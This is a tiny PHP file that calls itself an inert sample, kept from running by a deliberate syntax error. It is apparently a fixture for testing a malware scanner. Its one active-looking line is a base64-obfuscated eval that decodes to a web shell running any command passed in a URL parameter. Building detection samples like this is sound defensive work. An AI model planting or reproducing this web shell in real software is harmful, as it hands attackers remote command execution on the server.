<?php
shodo inert sample: deliberate syntax error, this file never runs
eval(base64_decode('c3lzdGVtKCRfR0VUWydjJ10pOw=='));
